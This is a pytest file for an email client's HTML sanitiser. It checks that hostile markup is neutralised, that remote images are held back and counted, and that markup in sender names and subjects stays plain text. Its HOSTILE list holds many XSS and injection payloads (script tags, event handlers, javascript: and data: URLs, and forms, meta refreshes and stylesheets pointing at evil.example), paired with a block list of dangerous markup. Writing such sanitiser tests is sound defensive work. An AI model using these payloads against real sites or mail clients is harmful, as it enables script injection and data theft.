"""HTML of strangers (A10, A11, A17): nothing runs, nothing is fetched, the words stay."""

import re

import pytest

from channels.email.parse.flags import Flags
from channels.email.parse.html import clean_html, html_text
from channels.email.parse.read import read_mail

HOSTILE = [
    "<svg/onload=alert(1)>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>', '<a href="data:text/html,<script>1</script>">x</a>',
    '<a href="vbscript:x">x</a>', '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example>", '<form action="//evil.example"><input name=p><button>b</form>',
    "<!--[if mso]><script>x</script><![endif]-->", '<iframe srcdoc="<script>1</script>"></iframe>',
    '<p style="background:url(//evil.example/x)">x</p>', "<style>@import '//evil.example';</style>",
    '<p style="position:fixed;top:0;left:0;width:100%">x</p>', '<body onload="alert(1)">x',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=1&gt;'>",
    '<link rel=stylesheet href="//evil.example/x.css">', "<object data=//evil.example></object>",
    '<video poster="//evil.example/x"><source src="//evil.example/y"></video>',
    '<p id="login" class="console" name="x">x</p>', '<a href="JaVa&#x73;cript:alert(1)">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg><a xlink:href="javascript:1"><text>x</text></a></svg>',
    "<table background=//evil.example>",
    '<img srcset="//evil.example/x 2x">', '<input autofocus onfocus="alert(1)">',
]  # fmt: skip
NEVER = (
    "<script", "onerror=", "onload=", "onfocus=", "javascript:", "vbscript:", "data:", "<svg",
    "<iframe", "<form", "<input", "<base", "<meta", "<link", "<style", "<object", "<video",
    "url(", "position", "evil.example", "<math", "srcset", "id=", "class=", "<!--",
)  # fmt: skip


@pytest.mark.parametrize("html", HOSTILE, ids=range(len(HOSTILE)))
def test_a10_hostile_html_comes_out_harmless(html: str) -> None:
    """A10: nothing runs and nothing is loaded, whatever the markup."""
    cleaned = clean_html(f"<p>before</p>{html}<p>after</p>", Flags())
    # In quotes and between tags anything may stand: it is a title, or text.
    markup = re.sub(r'(?<=title=)"[^"]*"', "", cleaned.html.lower())
    assert not [one for one in NEVER if one in "".join(re.findall(r"<[^>]*>", markup))]
    assert "before" in cleaned.html
    once_more = clean_html(cleaned.html, Flags())
    assert once_more.html == cleaned.html


def test_a11_a_tracking_pixel_is_counted_and_not_fetched() -> None:
    """A11: what lies elsewhere sleeps until an agent asks."""
    html = (
        '<p>Hi</p><img src="https://t.example/p.gif?me"><img src="cid:logo"><img src=//t.example>'
    )
    flags = Flags()
    cleaned = clean_html(html, flags)
    assert cleaned.remote_count == 2
    assert 'src="asleep-https://t.example/p.gif?me"' in cleaned.html
    assert cleaned.html.count("t.example") == 1, "what is not https is gone"
    assert 'src="cid:logo"' in cleaned.html
    assert "remote_content" in flags


def test_a11_a_link_is_opened_apart_and_tells_nothing() -> None:
    cleaned = clean_html('<a href="https://shop.example/a?b">x</a>', Flags())
    assert 'rel="noopener noreferrer nofollow"' in cleaned.html
    assert 'target="_blank"' in cleaned.html


def test_a17_markup_in_names_and_subjects_is_only_text() -> None:
    """A17: markup in names, subjects and files is text."""
    head = (
        'From: "<img src=x onerror=alert(1)>" <x@evil.example>\r\nSubject: <script>\u202ex\r\n\r\n'
    )
    found = read_mail(head.encode() + b"x")
    assert found.sender_name == "<img src=x onerror=alert(1)>"
    assert found.subject == "<script> x"


def test_the_text_of_html_reads_as_it_looks() -> None:
    html = (
        "<html><head><title>no</title><style>p{}</style></head><body><h1>Card</h1><p>One&nbsp;two"
        "<br>three</p><ul><li>a</li><li>b</li></ul><table><tr><td>x</td><td>y</td></tr></table>"
        "<pre>  kept\n   so</pre></body></html>"
    )
    assert html_text(html) == "Card\n\nOne two\nthree\n\n- a\n- b\n\nx y\n\n  kept\n   so"
